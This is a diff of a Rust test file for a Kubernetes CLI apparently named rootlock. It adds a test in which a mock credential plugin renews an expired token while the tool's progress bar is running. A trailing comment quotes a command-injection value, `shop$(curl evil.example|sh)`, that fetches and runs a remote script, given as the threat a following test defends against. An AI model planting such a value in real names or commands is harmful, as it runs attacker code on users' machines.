@@ -2274,6 +2274,67 @@ fn the_progress_bar_leaves_the_terminal_to_a_credential_plugin_while_it_runs() {
     assert!(!while_running.load(Ordering::SeqCst));
 }
 
+/// kube runs the plugin again inside a request when its token expires,
+/// with the terminal's stdin and stderr unless `interactiveMode: Never`: a
+/// prompt then (a single sign-on session that ended asks again) was
+/// erased by the bar's redraw every 200 ms, and rootlock seemed to hang.
+/// With such a plugin the bar is drawn only when the listing moves on,
+/// which it cannot while the plugin has the terminal.
+#[test]
+fn the_progress_bar_leaves_the_terminal_to_a_plugin_renewing_its_token() {
+    use std::sync::atomic::Ordering;
+    let server = recorded_server();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let kc = server.kubeconfig(dir.path(), "replay");
+    let text = std::fs::read_to_string(&kc).expect("kubeconfig");
+    let runs = dir.path().join("runs");
+    let running = dir.path().join("running");
+    let script = dir.path().join("sso-prompt");
+    // As in the renewal timeout test: three runs while kube builds the
+    // client, each a token that has already expired; the fourth, for the
+    // first request, "prompts" for a second and then answers.
+    std::fs::write(
+        &script,
+        format!(
+            "#!/bin/sh\nn=$(cat '{runs}' 2>/dev/null | wc -l)\necho run >> '{runs}'\nif [ \"$n\" -ge 3 ]; then\n  touch '{running}'\n  sleep 1\n  rm '{running}'\n  echo '{{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"replay-token\",\"expirationTimestamp\":\"2099-01-01T00:00:00Z\"}}}}'\n  exit 0\nfi\necho '{{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"replay-token\",\"expirationTimestamp\":\"2020-01-01T00:00:00Z\"}}}}'\n",
+            runs = runs.display(),
+            running = running.display(),
+        ),
+    )
+    .expect("script");
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    }
+    let user = format!(
+        "exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: {}\n      interactiveMode: IfAvailable",
+        script.display()
+    );
+    std::fs::write(&kc, text.replace("token: replay-token", &user)).expect("write");
+    let draws = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let while_running = Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let terminal = WatchedTerminal {
+        running: running.clone(),
+        draws: draws.clone(),
+        while_running: while_running.clone(),
+    };
+    let mut out = Vec::new();
+    let mut err = Vec::new();
+    let code = rootlock_cluster::run_with_progress(
+        &args(&kc, &[]),
+        &mut out,
+        &mut err,
+        Some(indicatif::ProgressDrawTarget::term_like(Box::new(terminal))),
+    );
+    let err = String::from_utf8(err).expect("utf-8");
+    assert_eq!(code, 1, "{err}");
+    let ran = std::fs::read_to_string(&runs).unwrap_or_default();
+    assert!(ran.lines().count() >= 4, "the token was not renewed: {err}");
+    assert!(!running.exists());
+    assert!(draws.load(Ordering::SeqCst) > 0);
+    assert!(!while_running.load(Ordering::SeqCst));
+}
+
 /// The `next:` step is a `kubectl label ns NAME …` to copy and run, and the
 /// name is the server's: a server that does not check names (or one in
 /// the middle) could send `shop$(curl evil.example|sh)`, which ran as typed.
